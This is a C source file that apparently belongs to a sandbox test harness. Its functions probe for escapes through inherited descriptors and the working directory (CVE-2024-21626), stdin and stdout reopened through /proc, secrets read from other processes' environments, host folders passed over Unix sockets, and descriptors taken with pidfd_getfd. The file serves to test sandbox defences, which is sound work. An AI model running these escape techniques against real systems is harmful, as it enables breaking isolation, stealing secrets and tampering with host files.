// Attacks through what the caller left open: descriptors, the working directory, standard streams, the
// environment.
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>

#include "attack.h"

// CVE-2024-21626 and every plain leak: any descriptor above 2 is the caller's, and a directory leads out.
static void scan(int argc, char** argv) {
  const char* file = argc > 0 ? argv[0] : "canary";
  char text[256];
  for (int fd = 3; fd < 4096; ++fd) {
    if (fcntl(fd, F_GETFD) < 0) continue;
    char link[64], target[256];
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t length = readlink(link, target, sizeof target - 1);
    target[length > 0 ? length : 0] = '\0';
    if (fd_has_canary(fd, text, sizeof text)) won("descriptor %d (%s) holds %s", fd, target, text);
    if (path_has_canary(fd, file, text, sizeof text))
      won("directory descriptor %d (%s) leads to %s", fd, target, text);
    won("descriptor %d (%s) was inherited", fd, target);
  }
  errno = 0;
  refused("no descriptor above 2");
}

// The second half of CVE-2024-21626: a working directory outside the new root.
static void cwd(int argc, char** argv) {
  const char* file = argc > 0 ? argv[0] : "canary";
  char text[256], path[512] = "";
  for (int level = 0; level < 16; ++level) {
    char candidate[600];
    snprintf(candidate, sizeof candidate, "%s%s", path, file);
    if (path_has_canary(AT_FDCWD, candidate, text, sizeof text)) won("%s is %s", candidate, text);
    strcat(path, "../");
  }
  // getcwd of a folder that is not beneath the root begins with "(unreachable)"; the raw call tells, libc
  // hides it.
  char here[512];
  long length = syscall(SYS_getcwd, here, sizeof here);
  if (length > 0 && here[0] != '/') won("the working directory is %s", here);
  errno = 0;
  refused("the working directory is %s", length > 0 ? here : "unknown");
}

// Standard input that is a folder of the host: fchdir and openat walk out of it.
static void stdin_folder(int argc, char** argv) {
  const char* file = argc > 0 ? argv[0] : "canary";
  char text[256];
  if (path_has_canary(0, file, text, sizeof text)) won("openat(0, \"%s\") is %s", file, text);
  if (fchdir(0) == 0 && path_has_canary(AT_FDCWD, file, text, sizeof text))
    won("fchdir(0) leads to %s", text);
  if (path_has_canary(AT_FDCWD, "/proc/self/fd/0/canary", text, sizeof text))
    won("/proc/self/fd/0 leads to %s", text);
  refused("standard input is no way out");
}

// A file that the caller opened read-only as standard input is reopened for writing through its magic link.
static void stdin_rewrite(int argc, char** argv) {
  (void)argc, (void)argv;
  struct stat status;
  if (fstat(0, &status) != 0) broken("fstat(0)");
  int fd = open("/proc/self/fd/0", O_WRONLY | O_CLOEXEC);
  if (fd < 0) refused("standard input cannot be reopened");
  if (!S_ISREG(status.st_mode)) {
    errno = 0;
    refused("standard input is no file of the caller");
  }
  static const char kText[] = "OVERWRITTEN";
  if (write(fd, kText, sizeof kText - 1) != (ssize_t)sizeof kText - 1) refused("write to the caller's input");
  won("the caller's read-only input was overwritten");
}

// What the caller's output file already held is read, or truncated, although it was opened for appending
// only.
static void output_reopen(int argc, char** argv) {
  int stream = argc > 0 ? atoi(argv[0]) : 1;
  struct stat status;
  if (fstat(stream, &status) != 0) broken("fstat(%d)", stream);
  char path[64], text[256];
  snprintf(path, sizeof path, "/proc/self/fd/%d", stream);
  if (!S_ISREG(status.st_mode)) {
    errno = 0;
    refused("stream %d is no file of the caller", stream);
  }
  if (path_has_canary(AT_FDCWD, path, text, sizeof text)) won("the caller's output file was read: %s", text);
  if (open(path, O_WRONLY | O_TRUNC | O_CLOEXEC) >= 0) won("the caller's output file was truncated");
  refused("stream %d cannot be reopened", stream);
}

static bool environ_of(pid_t pid, void* wanted) {
  char path[64], text[65536];
  snprintf(path, sizeof path, "/proc/%d/environ", (int)pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return false;
  ssize_t got = read(fd, text, sizeof text);
  close(fd);
  if (got <= 0 || memmem(text, (size_t)got, wanted, strlen(wanted)) == NULL) return false;
  won("%s holds the caller's secret", path);
}

extern char** environ;

// A secret in the caller's environment: our own environment, that of every visible process, and our own
// stack, where execve left the strings.
static void environment(int argc, char** argv) {
  if (argc < 1) broken("usage: environment SECRET");
  for (char** entry = environ; *entry != NULL; ++entry) {
    // The argument itself is in our memory too: only whole variables count.
    if (strstr(*entry, argv[0]) != NULL) won("%s", *entry);
  }
  each_process(environ_of, argv[0]);
  errno = 0;
  refused("the secret is nowhere");
}

static int receive_descriptor(int socket) {
  char byte, control[CMSG_SPACE(sizeof(int))];
  struct iovec data = {&byte, 1};
  struct msghdr message = {
      .msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
  if (recvmsg(socket, &message, MSG_CMSG_CLOEXEC) <= 0) return -1;
  struct cmsghdr* header = CMSG_FIRSTHDR(&message);
  if (header == NULL || header->cmsg_type != SCM_RIGHTS) return -1;
  int fd;
  memcpy(&fd, CMSG_DATA(header), sizeof fd);
  return fd;
}

// An accomplice outside hands a folder of the host over a socket that the caller bound into the sandbox.
static void receive_folder(int argc, char** argv) {
  if (argc < 1) broken("usage: receive-folder SOCKET");
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  snprintf(address.sun_path, sizeof address.sun_path, "%s", argv[0]);
  int socket_fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (socket_fd < 0) refused("socket(AF_UNIX)");
  if (connect(socket_fd, (struct sockaddr*)&address, sizeof address) != 0) refused("connect to %s", argv[0]);
  int folder = receive_descriptor(socket_fd);
  if (folder < 0) broken("the accomplice sent nothing");
  char text[256], link[64];
  if (path_has_canary(folder, "canary", text, sizeof text)) won("openat beneath the folder is %s", text);
  snprintf(link, sizeof link, "/proc/self/fd/%d/canary", folder);
  if (path_has_canary(AT_FDCWD, link, text, sizeof text)) won("%s is %s", link, text);
  int error = errno;
  if (fchdir(folder) == 0 && path_has_canary(AT_FDCWD, "canary", text, sizeof text))
    won("fchdir leads to %s", text);
  int made = openat(folder, "planted", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  if (made >= 0) won("a file was planted in the host's folder");
  errno = error;
  refused("the folder opens nothing");
}

// The same over a standard stream that is the caller's socket.
static void receive_from_stream(int argc, char** argv) {
  if (argc < 1) broken("usage: receive-from-stream FD");
  int folder = receive_descriptor(atoi(argv[0]));
  if (folder < 0) refused("no descriptor came");
  char text[256];
  if (path_has_canary(folder, "canary", text, sizeof text)) won("a folder came: %s", text);
  won("descriptor %d came", folder);
}

static bool steal_from(pid_t pid, void* data) {
  (void)data;
  if (pid == getpid()) return false;
  int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
  if (pidfd < 0) return false;
  for (int number = 0; number < 64; ++number) {
    int fd = (int)syscall(SYS_pidfd_getfd, pidfd, number, 0);
    if (fd >= 0) won("pidfd_getfd took descriptor %d of process %d", number, (int)pid);
  }
  close(pidfd);
  return false;
}

// Every visible process' descriptors, process 1's report socket and the supervisor's above all.
static void steal(int argc, char** argv) {
  (void)argc, (void)argv;
  each_process(steal_from, NULL);
  refused("pidfd_getfd");
}

const Attack kDescriptorAttacks[] = {
    {"scan-descriptors", scan},         {"cwd", cwd},
    {"stdin-folder", stdin_folder},     {"stdin-rewrite", stdin_rewrite},
    {"output-reopen", output_reopen},   {"environment", environment},
    {"receive-folder", receive_folder}, {"receive-from-stream", receive_from_stream},
    {"steal-descriptors", steal},       {NULL, NULL},
};
